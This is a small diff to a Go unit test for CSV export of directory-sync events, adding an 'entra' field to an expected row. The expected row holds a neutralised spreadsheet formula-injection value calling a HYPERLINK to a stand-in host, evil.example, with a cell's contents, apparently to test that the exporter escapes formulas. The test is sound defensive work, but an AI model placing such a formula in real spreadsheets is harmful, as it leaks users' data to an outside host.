@@ -185,7 +185,7 @@ func TestCSV(t *testing.T) {
 		want := []string{
 			at.Format("2006-01-02 15:04:05.000"), "create", "created", "no_match", "", `'=HYPERLINK("http://evil.example?"&A1,"Kofi")`, "",
 			"displayName, userName, title, companyReason, status, active", "directory entra", fmt.Sprintf("%.3f", event["durationMs"]),
-			event["contactId"].(string), event["scimId"].(string), "r1", event["id"].(string),
+			event["contactId"].(string), event["scimId"].(string), "r1", event["id"].(string), "entra",
 		}
 		if diff := cmp.Diff([][]string{want}, rows); diff != "" {
 			t.Error(diff)
